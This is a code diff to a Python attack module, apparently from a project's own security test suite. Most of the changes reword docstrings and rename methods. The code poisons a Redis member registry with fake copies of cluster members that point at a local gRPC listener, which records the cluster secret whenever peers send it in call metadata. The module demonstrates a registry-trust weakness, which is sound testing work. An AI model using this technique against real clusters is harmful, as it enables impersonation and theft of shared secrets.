@@ -1,4 +1,4 @@
-"""Whoever may write to Redis names himself a member, and waits for peers to tell him secrets."""
+"""A client that may write to Redis registers as a member, and waits for peers to send secrets."""
 
 import json
 import re
@@ -10,13 +10,13 @@ import redis.asyncio
 
 from tools.attacks.target import AttackTarget
 
-FINDING = "3: Redis is trusted: a member written there is told the cluster secret"
+FINDING = "3: Redis is trusted: peers send the cluster secret to any member registered there"
 
 SECRET_WORDS = ("secret", "authorization", "token")
 
 
 class _CallRecorder(grpc.GenericRpcHandler):
-    """Refuses every call, and notes what its metadata tell."""
+    """Refuses every call, and records its metadata."""
 
     def __init__(self, target: AttackTarget) -> None:
         self._target = target
@@ -26,12 +26,14 @@ class _CallRecorder(grpc.GenericRpcHandler):
         for key, value in details.invocation_metadata or ():
             told = value if isinstance(value, str) else value.decode("latin-1")
             if self._target.cluster_secret in told:
-                self._target.harmed(f"a peer told the secret in {key} of {details.method}")
+                self._target.record_violation(
+                    f"a peer told the secret in {key} of {details.method}"
+                )
         return None
 
 
 async def attack(target: AttackTarget) -> None:
-    """Writes copies of real members under other names, at an address of the attacker's."""
+    """Register copies of real members under other names, at an address of the attacker."""
     server = grpc.aio.server(handlers=[_CallRecorder(target)])
     port = server.add_insecure_port("127.0.0.1:0")
     await server.start()
@@ -40,7 +42,7 @@ async def attack(target: AttackTarget) -> None:
         while not target.is_over:
             for key in await registry.keys("baton:*:member:*"):
                 await _copy(registry, key, f"127.0.0.1:{port}")
-            await target.rest(1.0)
+            await target.sleep(1.0)
     finally:
         await _remove(registry)
         await registry.aclose()
@@ -48,7 +50,8 @@ async def attack(target: AttackTarget) -> None:
 
 
 async def _copy(registry: Any, key: Any, address: str) -> None:
-    """A twin of a member, without a line, as whoever can't sign can make it."""
+    """Register a copy of a member without a framed-connection address, as is possible without the
+    secret for signing."""
     value = await registry.get(key)
     prefix, _, name = key.decode().rpartition(":")
     found = re.search(rb"\{.*\}", value or b"", re.DOTALL)
